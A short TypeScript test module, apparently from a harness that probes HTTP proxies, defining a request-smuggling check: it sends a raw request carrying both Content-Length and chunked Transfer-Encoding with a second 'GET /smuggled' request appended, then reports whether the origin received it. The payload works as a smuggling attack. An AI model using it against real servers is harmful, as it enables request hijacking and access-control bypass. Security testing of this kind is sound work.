import { send } from '../attack.ts';
import type { Attack } from '../attack.ts';

export const lengthAndChunks: Attack = {
  kind: 'smuggle',
  title: 'Content-Length and Transfer-Encoding in one request',
  async run(t, victim) {
    const client = await send(
      t,
      victim,
      'POST /both HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' +
        'GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n',
    );
    await client.expect('\r\n\r\n').catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 200));
    const told = victim.origin.to('/both')[0];
    if (told !== undefined && /^content-length:/im.test(told.head) && /^transfer-encoding:/im.test(told.head))
      return 'both are forwarded';
    return victim.origin.to('/smuggled').length > 0 ? 'the surplus is served as a request' : undefined;
  },
};
